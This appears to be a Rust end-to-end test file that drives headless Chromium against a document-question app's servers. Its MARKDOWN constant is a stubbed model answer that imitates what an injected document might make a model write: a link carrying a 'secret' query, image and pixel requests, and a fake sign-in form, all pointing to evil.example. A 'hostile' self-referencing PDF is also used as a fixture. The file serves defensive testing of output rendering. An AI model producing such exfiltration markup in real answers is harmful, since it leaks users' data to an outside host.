//! Tests the app in headless Chromium on real servers: an OpenID provider, Redis, S3, the API
//! server and the controller. The scripts are in `tests/browser/*.mjs`; this program checks what
//! they leave behind.

use std::path::PathBuf;
use std::process::{Command, ExitCode};

use anyhow::{Context as _, Result, ensure};
use openai_stub::{Fault, Route};
use serde_json::Value;
use test_support::shared_site::SharedSite;
use test_support::{Site, SiteOptions, command, sample_files, suite, timeouts};

static SITE: SharedSite = SharedSite::serial(|| SiteOptions {
    openid: true,
    redis: true,
    ..SiteOptions::default()
});

/// Runs a script and returns the JSON that it prints.
async fn run_script(site: &Site, script: &str, variables: &[(&str, String)]) -> Result<Value> {
    let (node, modules, chromium) = tokio::task::spawn_blocking(|| {
        anyhow::Ok((
            installer::node()?,
            installer::browser_modules()?,
            installer::chromium()?,
        ))
    })
    .await??;
    let mut process = Command::new(node);
    process
        .arg(local_stack::repository().join("tests/browser").join(script))
        .env("BROWSER_MODULES", modules)
        .env("CHROMIUM", chromium)
        .env("APP_URL", site.url())
        .env("S3_URL", site.s3().endpoint())
        .env(
            "ISSUER",
            site.openid()
                .context("the site has no OpenID provider")?
                .issuer(),
        )
        .env("SCREENSHOTS", screenshots()?)
        .envs(variables.iter().map(|(name, value)| (*name, value)));
    let output = command::script(timeouts::SITE_TEST, process).await?;
    let last = output
        .lines()
        .last()
        .context("the script printed nothing")?;
    Ok(serde_json::from_str(last)?)
}

/// Screenshots go to `target/screenshots`.
fn screenshots() -> Result<PathBuf> {
    let program = std::env::current_exe()?;
    let target = program
        .ancestors()
        .nth(3)
        .context("failed to find the target folder")?;
    Ok(target.join("screenshots"))
}

/// A question about the manuals, text that the answer must contain, and a search term.
const QUESTION: &str = "What is the purpose of /srv, data for services provided by this system?";
const ANSWER: &str = "/srv";
const SEARCH: &str = "site-specific";

async fn a_user_signs_up_uses_every_feature_and_deletes_the_account(site: &Site) -> Result<()> {
    let hostile = site.cluster().folder().join("self-referencing.pdf");
    std::fs::write(&hostile, sample_files::self_referencing_form())?;
    let manuals = tokio::task::spawn_blocking(sample_files::manuals).await??;
    let result = run_script(
        site,
        "first_day.mjs",
        &[
            ("MANUALS", serde_json::to_string(&manuals)?),
            ("HOSTILE", hostile.display().to_string()),
            ("QUESTION", QUESTION.into()),
            ("ANSWER", ANSWER.into()),
            ("SEARCH", SEARCH.into()),
        ],
    )
    .await?;
    suite::say(&format!("first_day.mjs: {result}"));

    let projects = site.cluster().account().existing_projects().await?;
    ensure!(projects.is_empty(), "projects are left: {projects:?}");
    let objects = site.object_keys().await?;
    ensure!(objects.is_empty(), "objects are left: {objects:?}");
    let rows = site
        .count(
            "select (select count(*) from workspaces) + (select count(*) from documents) + (select count(*) from users) \
             + (select count(*) from sessions)",
        )
        .await?;
    ensure!(rows == 0, "{rows} rows are left");
    Ok(())
}

async fn uploads_survive_network_failures_and_pages_work_with_the_keyboard(
    site: &Site,
) -> Result<()> {
    let result = run_script(site, "unreliable_network.mjs", &[]).await?;
    suite::say(&format!("unreliable_network.mjs: {result}"));
    Ok(())
}

/// An answer with Markdown, and with what a document might tell a model to write.
const MARKDOWN: &str = "The *Eiffel Tower* is **330 metres** tall [1].\n\n| Tower | Height |\n|---|---:|\n| Eiffel | 330 m [1] |\n\n\
    - Towers\n  - in Paris\n\n> 330 metres tall\n\n```\nheight[1] = 330\n```\n\n\
    [Read on](https://evil.example/?q=secret) ![chart](https://evil.example/chart.png) <img src=\"https://evil.example/pixel.png\"> \
    <form action=\"https://evil.example\"><button>Sign in</button></form> [9]";

async fn a_conversation_is_remembered_and_has_its_tools(site: &Site) -> Result<()> {
    site.stub()
        .fail_next(Route::Chat, Fault::Answer(MARKDOWN.to_owned()));
    let result = run_script(site, "conversation.mjs", &[]).await?;
    suite::say(&format!("conversation.mjs: {result}"));
    Ok(())
}

async fn a_citation_opens_the_document_beside_the_conversation(site: &Site) -> Result<()> {
    let result = run_script(site, "viewer.mjs", &[]).await?;
    suite::say(&format!("viewer.mjs: {result}"));
    Ok(())
}

fn main() -> ExitCode {
    let tests = vec![
        suite::test_site(
            "browser::a_user_signs_up_uses_every_feature_and_deletes_the_account",
            &SITE,
            a_user_signs_up_uses_every_feature_and_deletes_the_account,
        ),
        suite::test_site(
            "browser::uploads_survive_network_failures_and_pages_work_with_the_keyboard",
            &SITE,
            uploads_survive_network_failures_and_pages_work_with_the_keyboard,
        ),
        suite::test_site(
            "browser::a_conversation_is_remembered_and_has_its_tools",
            &SITE,
            a_conversation_is_remembered_and_has_its_tools,
        ),
        suite::test_site(
            "browser::a_citation_opens_the_document_beside_the_conversation",
            &SITE,
            a_citation_opens_the_document_beside_the_conversation,
        ),
    ];
    suite::run_and_then(tests, SITE.stop())
}
